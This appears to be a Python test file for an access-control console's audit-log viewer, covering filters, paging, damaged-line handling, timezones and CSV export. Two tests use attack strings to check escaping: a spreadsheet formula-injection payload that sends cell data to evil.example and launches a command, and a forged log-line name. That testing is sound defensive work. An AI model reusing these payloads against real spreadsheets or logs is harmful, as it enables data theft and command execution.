"""The console's audit view: newest first, filters in the door's zone, torn lines skipped, a cheap first page, safe CSV."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from blindgate.device.access_rules import AccessRuleError
from blindgate.device.audit import AuditLog
from blindgate.device.console import audit_view
from blindgate.device.console.audit_view import (
    CSV_HEADER,
    AuditFilter,
    AuditRow,
    AuditViewError,
    SystemZone,
    csv_safe,
    door_zone,
    event_choices,
    iter_log,
    read_log,
    to_csv,
)
from blindgate.device.decision import DoorEvent
from blindgate.shared.errors import BlindgateError

NEW_YORK = ZoneInfo("America/New_York")
T0 = datetime(2024, 1, 15, 12, 0, tzinfo=UTC)


def stamp(when: datetime) -> str:
    """A timestamp exactly as AuditLog writes it."""
    return when.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def line(when: datetime, **entry) -> str:
    return json.dumps({"ts": stamp(when), **entry}) + "\n"


def write_log(path: Path, entries: list[tuple[datetime, dict]]) -> Path:
    path.write_text("".join(line(when, **entry) for when, entry in entries))
    return path


def sample(tmp_path: Path) -> Path:
    """A small log of every kind of entry, one per minute from T0."""
    entries = [
        {
            "kind": "event",
            "event": "recognized",
            "subject": "p-0001",
            "label": "Alice Martin",
            "request_id": "r1",
            "reason": "ok",
        },
        {"kind": "lock", "state": "LOCKED", "reason": "hold-open time over"},
        {"kind": "event", "event": "unknown", "subject": None, "label": None, "request_id": "r2", "snapshot": "u1.jpg"},
        {"kind": "doubt", "request_id": "r3", "reason": "no reply in time"},
        {"kind": "event", "event": "denied", "subject": "p-0002", "label": "Bob", "request_id": "r4", "reason": "outside hours"},
        {"kind": "claim_accepted", "source": "nfc", "claim_id": "c1", "subject": "p-0002"},
        {"kind": "reply_rejected", "reason": "stale reply"},
        {"kind": "replies_dropped", "count": 12},
        {"kind": "event", "event": "recognized", "subject": "p-0001", "label": "Alice Martin", "request_id": "r5", "reason": "x"},
    ]
    return write_log(tmp_path / "audit.jsonl", [(T0 + timedelta(minutes=i), e) for i, e in enumerate(entries)])


def events(rows: list[AuditRow]) -> list[str]:
    return [r.event for r in rows]


# -- order, rows ------------------------------------------------------------------------------------


def test_newest_first_with_every_kind(tmp_path):
    rows, more = read_log(sample(tmp_path), AuditFilter(), UTC)
    assert not more
    assert events(rows) == [
        "recognized",
        "replies_dropped",
        "reply_rejected",
        "claim_accepted",
        "denied",
        "doubt",
        "unknown",
        "lock",
        "recognized",
    ]
    assert [r.when for r in rows] == sorted((r.when for r in rows), reverse=True)


def test_row_fields_and_detail(tmp_path):
    rows, _ = read_log(sample(tmp_path), AuditFilter(), NEW_YORK)
    by_event = {r.event: r for r in rows}
    first = rows[-1]
    assert first.when == T0 and first.when.utcoffset() == timedelta(hours=-5)  # shown in the door's zone
    assert (first.kind, first.person, first.subject, first.reason) == ("event", "Alice Martin", "p-0001", "ok")
    assert first.detail == ""  # the request nonce is no detail, nothing is invented
    assert by_event["lock"].detail == "state=LOCKED" and by_event["lock"].person == ""
    assert by_event["unknown"].detail == "snapshot=u1.jpg" and by_event["unknown"].person == ""  # nulls left out
    assert by_event["claim_accepted"].person == "p-0002" and by_event["claim_accepted"].detail == "source=nfc"
    assert by_event["replies_dropped"].detail == "count=12"


def test_console_entries_show_their_action_and_address(tmp_path):
    path = tmp_path / "audit.jsonl"
    AuditLog(path).write(kind="console", action="hours", address="192.0.2.7", subject="p-1", windows=["mon-fri 08:00-18:00"])
    (row,), _ = read_log(path, AuditFilter(event="console"), UTC)
    assert (row.event, row.person) == ("console", "p-1")
    assert row.detail == 'action=hours; address=192.0.2.7; windows=["mon-fri 08:00-18:00"]'
    assert "console" in event_choices()


def test_long_values_are_cut_in_detail(tmp_path):
    path = write_log(tmp_path / "a.jsonl", [(T0, {"kind": "claim_rejected", "reason": "malformed", "detail": "x" * 5000})])
    (row,), _ = read_log(path, AuditFilter(), UTC)
    assert row.detail.startswith("detail=xxx") and len(row.detail) <= len("detail=") + audit_view.MAX_DETAIL_VALUE


# -- filters ----------------------------------------------------------------------------------------


def test_person_filter_is_a_case_insensitive_part_of_the_name(tmp_path):
    path = sample(tmp_path)
    rows, _ = read_log(path, AuditFilter(person="aLiCe"), UTC)
    assert events(rows) == ["recognized", "recognized"] and {r.person for r in rows} == {"Alice Martin"}
    assert events(read_log(path, AuditFilter(person="mart"), UTC)[0]) == ["recognized", "recognized"]
    assert read_log(path, AuditFilter(person="carol"), UTC)[0] == []


def test_person_filter_matches_a_subject_id_exactly(tmp_path):
    path = sample(tmp_path)
    rows, _ = read_log(path, AuditFilter(person="p-0002"), UTC)
    assert events(rows) == ["claim_accepted", "denied"]  # the claim has no name, only the id
    assert read_log(path, AuditFilter(person="p-000"), UTC)[0] == []  # a part of an id is no match


def test_event_filter_uses_the_event_or_else_the_kind(tmp_path):
    path = sample(tmp_path)
    assert events(read_log(path, AuditFilter(event="denied"), UTC)[0]) == ["denied"]
    assert events(read_log(path, AuditFilter(event="lock"), UTC)[0]) == ["lock"]
    assert events(read_log(path, AuditFilter(event="recognized", person="alice"), UTC)[0]) == ["recognized"] * 2
    assert read_log(path, AuditFilter(event="event"), UTC)[0] == []  # "event" is a kind that always has an event


def test_day_filter_is_the_door_s_local_day_across_utc_midnight(tmp_path):
    entries = [
        (datetime(2024, 1, 15, 4, 59, tzinfo=UTC), {"kind": "lock", "reason": "14th, 23:59 in New York"}),
        (datetime(2024, 1, 15, 5, 0, tzinfo=UTC), {"kind": "lock", "reason": "15th, 00:00 in New York"}),
        (datetime(2024, 1, 16, 3, 30, tzinfo=UTC), {"kind": "lock", "reason": "15th, 22:30 in New York"}),
        (datetime(2024, 1, 16, 5, 30, tzinfo=UTC), {"kind": "lock", "reason": "16th, 00:30 in New York"}),
    ]
    path = write_log(tmp_path / "a.jsonl", entries)
    rows, _ = read_log(path, AuditFilter(day=date(2024, 1, 15)), NEW_YORK)
    assert [r.reason for r in rows] == ["15th, 22:30 in New York", "15th, 00:00 in New York"]
    assert all(r.when.date() == date(2024, 1, 15) for r in rows)
    # Control: in UTC the same day holds the other two.
    rows, _ = read_log(path, AuditFilter(day=date(2024, 1, 15)), UTC)
    assert [r.reason for r in rows] == ["15th, 00:00 in New York", "14th, 23:59 in New York"]


def test_day_filter_east_of_utc(tmp_path):
    path = write_log(tmp_path / "a.jsonl", [(datetime(2024, 1, 15, 12, 0, tzinfo=UTC), {"kind": "lock"})])  # 16th 01:00 NZDT
    assert len(read_log(path, AuditFilter(day=date(2024, 1, 16)), ZoneInfo("Pacific/Auckland"))[0]) == 1
    assert read_log(path, AuditFilter(day=date(2024, 1, 15)), ZoneInfo("Pacific/Auckland"))[0] == []


def test_day_filter_finds_what_the_real_audit_log_writes(tmp_path):
    """The raw-line pre-check of the day filter must agree with AuditLog's own format."""
    path = tmp_path / "audit.jsonl"
    AuditLog(path).write(kind="event", event=DoorEvent.RECOGNIZED, subject="p-1", label="Alice")
    today = datetime.now(NEW_YORK).date()
    rows, _ = read_log(path, AuditFilter(day=today), NEW_YORK)
    assert [(r.event, r.person) for r in rows] == [("recognized", "Alice")]
    assert read_log(path, AuditFilter(day=today - timedelta(days=3)), NEW_YORK)[0] == []


def test_parse_filter_from_query():
    assert AuditFilter.parse({}) == AuditFilter()
    parsed = AuditFilter.parse({"person": "  Alice ", "event": "denied", "day": "2024-02-29"})
    assert parsed == AuditFilter(person="Alice", event="denied", day=date(2024, 2, 29))
    capped = AuditFilter.parse({"person": "a" * 5000, "event": "e" * 5000})
    assert len(capped.person) == 100 and len(capped.event) == 100


BAD_DAYS = ["yesterday", "2024-13-01", "2023-02-29", "2024-1-5", "20240105", "2024-01-05T00:00", "２０２４-01-05"]


@pytest.mark.parametrize("bad", BAD_DAYS)
def test_a_bad_day_is_a_clear_error(bad):
    with pytest.raises(AuditViewError, match="day") as err:
        AuditFilter.parse({"day": bad})
    assert isinstance(err.value, BlindgateError) and isinstance(err.value, ValueError)


# -- limit ------------------------------------------------------------------------------------------


def test_limit_and_the_more_flag(tmp_path):
    path = sample(tmp_path)
    rows, more = read_log(path, AuditFilter(), UTC, limit=3)
    assert more and events(rows) == ["recognized", "replies_dropped", "reply_rejected"]
    assert read_log(path, AuditFilter(), UTC, limit=9) == (read_log(path, AuditFilter(), UTC)[0], False)  # exactly all
    assert read_log(path, AuditFilter(), UTC, limit=10)[1] is False
    rows, more = read_log(path, AuditFilter(person="alice"), UTC, limit=1)  # the flag counts matching rows only
    assert more and len(rows) == 1
    assert read_log(path, AuditFilter(person="alice"), UTC, limit=2)[1] is False
    with pytest.raises(AuditViewError):
        read_log(path, AuditFilter(), UTC, limit=0)


# -- damaged logs -----------------------------------------------------------------------------------


def test_malformed_lines_are_skipped(tmp_path):
    path = tmp_path / "a.jsonl"
    good = [line(T0 + timedelta(minutes=i), kind="lock", reason=f"ok{i}") for i in range(3)]
    junk = [
        "not json\n",
        "[1, 2]\n",
        '{"ts": "2024-01-15T12:00:00.000Z"}\n',  # no kind
        '{"ts": "yesterday", "kind": "lock"}\n',
        '{"ts": "2024-01-15T12:00:00", "kind": "lock"}\n',  # naive: not what AuditLog writes
        '{"kind": "lock"}\n',
        '{"ts": "2024-01-15T12:00:00.000Z", "kind": "lo\n',  # torn by a crash, then the log went on
        "\n   \n",
    ]
    path.write_bytes((good[0] + "".join(junk) + good[1]).encode() + b'\xff\xfe{"bad utf8"}\n' + good[2].encode())
    rows, more = read_log(path, AuditFilter(), UTC)
    assert [r.reason for r in rows] == ["ok2", "ok1", "ok0"] and not more


def test_a_line_still_being_written_is_skipped_until_complete(tmp_path):
    path = write_log(tmp_path / "a.jsonl", [(T0, {"kind": "lock", "reason": "done"})])
    partial = line(T0 + timedelta(minutes=1), kind="event", event="recognized", label="Alice")
    with path.open("a") as fh:
        fh.write(partial[:25])
    assert [r.reason for r in read_log(path, AuditFilter(), UTC)[0]] == ["done"]
    with path.open("a") as fh:
        fh.write(partial[25:-1])  # all but the newline: still not finished
    assert [r.reason for r in read_log(path, AuditFilter(), UTC)[0]] == ["done"]
    with path.open("a") as fh:
        fh.write("\n")
    assert events(read_log(path, AuditFilter(), UTC)[0]) == ["recognized", "lock"]


def test_missing_file_is_an_empty_log(tmp_path):
    assert read_log(tmp_path / "nope.jsonl", AuditFilter(), UTC) == ([], False)
    assert list(iter_log(tmp_path / "nope.jsonl", AuditFilter(), UTC)) == []
    (tmp_path / "empty.jsonl").write_text("")
    assert read_log(tmp_path / "empty.jsonl", AuditFilter(), UTC) == ([], False)


def test_an_oversized_line_is_skipped_and_its_neighbours_kept(tmp_path, monkeypatch):
    monkeypatch.setattr(audit_view, "MAX_LINE", 1000)
    monkeypatch.setattr(audit_view, "BLOCK_SIZE", 100)
    path = tmp_path / "a.jsonl"
    big = line(T0 + timedelta(minutes=1), kind="lock", reason="big", pad="x" * 5000)
    path.write_text(line(T0, kind="lock", reason="before") + big + line(T0 + timedelta(minutes=2), kind="lock", reason="after"))
    assert [r.reason for r in read_log(path, AuditFilter(), UTC)[0]] == ["after", "before"]


@pytest.mark.parametrize("block", [1, 7, 64, 4096])
def test_block_boundaries_never_split_or_lose_lines(tmp_path, monkeypatch, block):
    monkeypatch.setattr(audit_view, "BLOCK_SIZE", block)
    entries = [(T0 + timedelta(seconds=i), {"kind": "lock", "reason": "r" * (i % 13), "n": i}) for i in range(150)]
    path = write_log(tmp_path / "a.jsonl", entries)
    rows = list(iter_log(path, AuditFilter(), UTC))
    assert [r.detail for r in rows] == [f"n={i}" for i in reversed(range(150))]


def test_a_name_cannot_forge_a_log_line(tmp_path):
    """Attack: a name carrying a newline and JSON stays one entry (AuditLog escapes it); a real second line is a control."""
    path = tmp_path / "audit.jsonl"
    forged = 'Eve"}\n{"ts": "2024-01-15T12:00:00.000Z", "kind": "event", "event": "recognized", "label": "Admin'
    AuditLog(path).write(kind="event", event=DoorEvent.DENIED, subject="p-9", label=forged)
    rows, _ = read_log(path, AuditFilter(), UTC)
    assert len(rows) == 1 and rows[0].person == forged and rows[0].event == "denied"
    AuditLog(path).write(kind="lock", state="LOCKED")
    assert events(read_log(path, AuditFilter(), UTC)[0]) == ["lock", "denied"]


# -- a big log --------------------------------------------------------------------------------------


class CountingFile(io.FileIO):
    read_total = 0

    def read(self, size=-1):
        data = super().read(size)
        CountingFile.read_total += len(data)
        return data


def test_the_first_page_of_a_big_log_reads_only_its_end(tmp_path, monkeypatch):
    n = 50_000
    path = tmp_path / "audit.jsonl"
    with path.open("w") as fh:
        for i in range(n):
            fh.write(line(T0 + timedelta(seconds=i), kind="event", event="recognized", subject=f"p-{i}", label=f"Person {i}"))
    size = path.stat().st_size
    assert size > 4_000_000
    CountingFile.read_total = 0
    monkeypatch.setattr(audit_view, "open", lambda p, mode: CountingFile(p, "r"), raising=False)
    rows, more = read_log(path, AuditFilter(), UTC, limit=200)
    assert more and [r.person for r in rows] == [f"Person {i}" for i in range(n - 1, n - 201, -1)]
    assert 0 < CountingFile.read_total < size // 20  # a few blocks, not 4 MB
    # Control: a filter matching only the oldest entry has to read everything, and finds it.
    CountingFile.read_total = 0
    rows, more = read_log(path, AuditFilter(person="Person 0"), UTC, limit=200)
    assert [r.person for r in rows] == ["Person 0"] and not more  # "person 0" is a part of no other name
    assert CountingFile.read_total == size
    monkeypatch.undo()
    assert sum(1 for _ in iter_log(path, AuditFilter(), UTC)) == n


def test_reading_while_the_agent_appends(tmp_path):
    """Every row read while another handle appends is a whole entry; the next read sees the new ones."""
    path = tmp_path / "audit.jsonl"
    audit = AuditLog(path)
    audit.write(kind="lock", state="LOCKED")
    source = iter_log(path, AuditFilter(), UTC)
    first = next(source)
    for i in range(100):
        audit.write(kind="event", event="recognized", label=f"P{i}")
    assert first.kind == "lock" and list(source) == []  # the size was fixed when reading began
    rows = list(iter_log(path, AuditFilter(), UTC))
    assert len(rows) == 101 and rows[0].person == "P99"


# -- the dropdown -----------------------------------------------------------------------------------


def test_event_choices_offer_door_events_and_entry_kinds():
    choices = event_choices()
    assert set(str(e) for e in DoorEvent) <= set(choices)
    assert {"lock", "doubt", "reply_rejected", "replies_dropped", "claim_rejected", "claim_failed"} <= set(choices)
    assert "event" not in choices and len(choices) == len(set(choices))
    assert event_choices(["lock", "", "zz_new"]) == [*choices, "zz_new"]


# -- CSV --------------------------------------------------------------------------------------------


def rows_of(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text, newline="")))


def test_csv_has_a_header_and_times_with_offset(tmp_path):
    rows = list(iter_log(sample(tmp_path), AuditFilter(event="denied"), NEW_YORK))
    table = rows_of("".join(to_csv(rows)))
    assert table[0] == list(CSV_HEADER) == ["time", "event", "person", "subject", "reason", "detail"]
    assert table[1] == ["2024-01-15T07:04:00.000-05:00", "denied", "Bob", "p-0002", "outside hours", ""]
    assert rows_of("".join(to_csv([]))) == [list(CSV_HEADER)]


def test_csv_streams_in_chunks(tmp_path, monkeypatch):
    monkeypatch.setattr(audit_view, "CSV_ROWS_PER_CHUNK", 2)
    chunks = list(to_csv(iter_log(sample(tmp_path), AuditFilter(), UTC)))
    assert len(chunks) == 5 and len(rows_of("".join(chunks))) == 10


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_guards_formula_cells(start):
    """Attack: a name a spreadsheet would evaluate gets a leading apostrophe; plain names are the control."""
    evil = start + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    row = AuditRow(T0, "event", "denied", evil, "p-1", evil, f"{start}cmd|' /C calc'!A0")
    table = rows_of("".join(to_csv([row])))
    assert table[1][2] == "'" + evil and table[1][4] == "'" + evil and table[1][5].startswith("'" + start)
    plain = AuditRow(T0, "event", "recognized", "Alice = Bob", "p-1", "a-b", "n=1")
    assert rows_of("".join(to_csv([plain])))[1][1:] == ["recognized", "Alice = Bob", "p-1", "a-b", "n=1"]
    assert csv_safe("Alice") == "Alice" and csv_safe("") == ""


def test_csv_round_trips_commas_quotes_and_newlines(tmp_path):
    name = 'O\'Brien, "Jr."\nsecond line; x=y'
    path = tmp_path / "audit.jsonl"
    AuditLog(path).write(kind="event", event=DoorEvent.RECOGNIZED, subject="p-7", label=name, request_id="r")
    table = rows_of("".join(to_csv(iter_log(path, AuditFilter(person="o'brien"), UTC))))
    assert len(table) == 2 and table[1][2] == name and table[1][1:4] == ["recognized", name, "p-7"]


# -- the door's zone --------------------------------------------------------------------------------


def test_door_zone_reuses_the_access_timezone():
    assert door_zone("Europe/Berlin") == ZoneInfo("Europe/Berlin")
    assert isinstance(door_zone(""), SystemZone)
    with pytest.raises(AccessRuleError, match="Mars/Olympus"):
        door_zone("Mars/Olympus")


def test_system_zone_follows_daylight_saving(monkeypatch):
    monkeypatch.setenv("TZ", "EST5EDT,M3.2.0,M11.1.0")
    time.tzset()
    try:
        zone = door_zone("")
        winter = datetime(2024, 1, 15, 12, tzinfo=UTC).astimezone(zone)
        summer = datetime(2024, 7, 15, 12, tzinfo=UTC).astimezone(zone)
        assert winter.isoformat() == "2024-01-15T07:00:00-05:00" and summer.isoformat() == "2024-07-15T08:00:00-04:00"
        assert datetime(2024, 7, 15, 8, tzinfo=zone).utcoffset() == timedelta(hours=-4)
    finally:
        monkeypatch.undo()
        time.tzset()
